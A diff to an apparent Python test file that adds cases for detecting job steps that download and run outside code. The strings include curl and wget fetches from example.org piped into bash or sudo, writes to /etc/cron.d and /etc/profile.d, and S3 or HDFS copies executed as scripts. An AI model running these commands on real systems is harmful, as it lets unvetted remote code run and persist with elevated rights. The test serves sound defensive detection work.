@@ -345,7 +345,41 @@ ARGUMENTS_OF_STEPS: list[tuple[list[Any], int, Status]] = [
     (["bash", "-c", "curl -fsSL -o /tmp/i https://example.org/i && sudo bash /tmp/i"], 2, "UNKNOWN"),
     (["bash", "-c", "wget -q https://example.org/a -O /opt/a; chmod +x /opt/a; /opt/a --install"], 2, "UNKNOWN"),
     (["bash", "-c", "curl -s https://example.org/a | sudo tar xz -C /opt && /opt/a/install"], 2, "UNKNOWN"),
-    (["bash", "-c", "aws s3 cp s3://elsewhere/run - | bash"], 2, "INHERITED"),
+    *[
+        (["bash", "-c", text], 2, "UNKNOWN")
+        for text in (
+            "curl -fsSL -o /tmp/i https://example.org/i\nbash /tmp/i",
+            "curl -s https://example.org/i > /tmp/i; source /tmp/i",
+            "bash -s < <(curl -s https://example.org/i)",
+            "curl -s https://example.org/i | busybox sh",
+            "curl -s https://example.org/i | sudo tee /etc/profile.d/a.sh",
+            "curl -s -o /etc/cron.d/a https://example.org/a",
+            "curl -s https://example.org/i -o /tmp/x && spark-submit /tmp/x",
+            "pip3 install git+https://example.org/x",
+            "aws s3api get-object --bucket b --key k /tmp/run && bash /tmp/run",
+            "python3 -c \"get('https://example.org/x')\"",
+            "scp host:/run /tmp/run; bash /tmp/run",
+            "git -C /opt/x pull && make",
+        )
+    ],
+    *[
+        (["bash", "-c", text], 2, "INHERITED")
+        for text in (
+            "aws s3 cp --region us-east-1 s3://elsewhere/run /tmp/run && bash /tmp/run",
+            "aws s3 cp s3://elsewhere/run - | bash",
+            "aws s3 sync s3://elsewhere/bin /opt/bin\n/opt/bin/run",
+            "hdfs dfs -get -f s3a://elsewhere/run /tmp/run && bash /tmp/run",
+            "aws s3 cp s3://elsewhere/lib /tmp/lib && pip3 install /tmp/lib",
+            'bash -c "$(aws s3 cp s3://elsewhere/run -)"',
+            "F=/tmp/run; aws s3 cp s3://elsewhere/run $F && bash $F",
+            "hadoop fs -cat s3://elsewhere/run | gunzip | bash",
+            'spark-sql -e "ADD JAR s3://elsewhere/udf; SELECT 1"',
+            "s5cmd cp s3://elsewhere/run /tmp/run && bash /tmp/run",
+        )
+    ],
+    (["flink", "run", "-m", "yarn-cluster", "s3://elsewhere/job"], 4, "INHERITED"),
+    (["hadoop", "jar", "s3://elsewhere/lib", "s3://data/in"], 2, "INHERITED"),
+    (["spark-sql", "-e", "ADD JAR s3://elsewhere/udf; SELECT 1"], 2, "INHERITED"),
     (["bash", "-c", "bash <(aws s3 cp s3://elsewhere/run -)"], 2, "INHERITED"),
     (["bash", "-c", "hadoop fs -cat s3://elsewhere/run | bash"], 2, "INHERITED"),
     (["bash", "-c", "spark-submit --py-files s3://elsewhere/lib.zip /usr/lib/x.py"], 2, "INHERITED"),
@@ -377,6 +411,9 @@ ARGUMENTS_OF_STEPS_LEFT: list[list[Any]] = [
     ["bash", "-c", "curl -s https://example.org/x | perl -ne 'print'"],
     ["bash", "-c", "curl -s https://example.org/x -o /tmp/x && wc -l /tmp/x"],
     ["bash", "-c", "aws s3 cp s3://elsewhere/in - | wc -l"],
+    ["bash", "-c", "set -e\nbash /usr/lib/x.sh | gzip > /tmp/x.gz && aws s3 cp /tmp/x.gz s3://elsewhere/out.gz"],
+    ["bash", "-c", "curl -s https://example.org/x | awk '{print $1}' | sort | uniq -c"],
+    ["hadoop", "fs", "-cp", "s3://elsewhere/in", "s3://elsewhere/out"],
     ["bash", "-c", "aws s3 cp s3://elsewhere/in.csv /tmp/in.csv && wc -l /tmp/in.csv"],
     ["spark-submit", "--conf", "spark.eventLog.dir=s3://elsewhere/logs", "/usr/lib/spark/x.py"],
     ["x", "-i", "s3://elsewhere/in"],
